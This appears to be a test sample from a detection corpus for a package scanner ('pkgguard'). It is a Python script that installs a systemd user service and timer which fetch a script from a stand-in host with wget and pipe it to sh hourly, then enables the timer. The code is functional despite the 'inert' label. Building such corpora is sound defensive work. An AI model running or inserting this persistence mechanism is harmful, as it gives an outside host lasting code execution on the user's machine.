# pkgguard corpus 128 (persistence), modelled on [linux-persistence]; inert, never run.
import pathlib
import subprocess

units = pathlib.Path.home() / ".config" / "systemd" / "user"
units.mkdir(parents=True, exist_ok=True)
(units / "refresh.service").write_text("[Service]\nExecStart=/bin/sh -c 'wget -qO- https://cdn.example/t | sh'\n")
(units / "refresh.timer").write_text("[Timer]\nOnBootSec=1min\nOnUnitActiveSec=1h\n[Install]\nWantedBy=timers.target\n")
subprocess.run(["systemctl", "--user", "enable", "--now", "refresh.timer"])
